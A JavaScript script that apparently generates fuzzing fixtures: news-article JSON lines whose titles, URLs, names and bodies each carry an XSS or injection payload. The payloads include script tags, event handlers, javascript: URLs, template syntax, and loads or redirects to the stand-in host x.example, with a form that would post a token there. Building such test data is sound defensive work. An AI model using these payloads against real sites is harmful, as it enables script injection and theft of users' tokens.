// Articles whose titles, names, sources, addresses and bodies hold what no page may take for its own: a JSON object a line.
const RUN = "window.__ran=1";
const seeds = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//x.example/a.js></script>`, `<img src=x onerror=${RUN}>`, `<svg/onload=${RUN}>`, `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`, `//x.example/`, `https://x.example/"><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</mark></p></main><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}`, `&quot; onload=${RUN}`, `{{ 7 * 7 }}{{ desk }}`,
  `{% for x in y %}`, `{# c #}\${${RUN}}<%= 1 %>`, `\u202e${RUN}\u2066<b>`, `\u0000<script>${RUN}</script>\u0000`, `\uFFFE\uFFFF\u200b\u00ad<i>`, `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<object data="javascript:${RUN}">`, `<math><mi xlink:href="javascript:${RUN}">`, `<style>@import '//x.example/a.css'</style>`, `<link rel=stylesheet href=//x.example/a.css>`, `<meta http-equiv=refresh content="0;url=//x.example">`,
  `<base href=//x.example/>`, `<form action=//x.example><input name=token>`, `${"<".repeat(3000)}`, `${"A".repeat(5000)}<script>${RUN}</script>`, `${"&".repeat(2000)}`, `${"<b>".repeat(1000)}`,
];
const places = ["title", "source", "url", "id", "name", "body", "quote", "place"];
const count = Number(process.argv[2] ?? 500);
for (let at = 0; at < count; at++) {
  const payload = seeds[at % seeds.length];
  const where = places[Math.floor(at / seeds.length) % places.length];
  const more = seeds[(at * 7 + 3) % seeds.length];
  const put = (place, usual) => (place === where ? payload : usual);
  const article = {
    id: put("id", `hostile-${at}`) + (where === "id" ? `-${at}` : ""),
    date: `2025-0${1 + (at % 9)}-1${at % 10}`,
    title: put("title", `Talks ${at}`),
    source: put("source", "The Wire"),
    url: put("url", `https://wire.example/${at}`),
    text: `${put("name", "Sergei Lavrov")}, the Russian foreign minister, met Marco Rubio in ${put("place", "Geneva")} on Monday for talks on gas. `
      + `"${put("quote", "We will not sign")}," Lavrov said. Iran and the United States will meet in Muscat next week.\n\n${put("body", "The talks go on.")} ${at % 3 ? "" : more}`,
  };
  console.log(JSON.stringify(article));
}
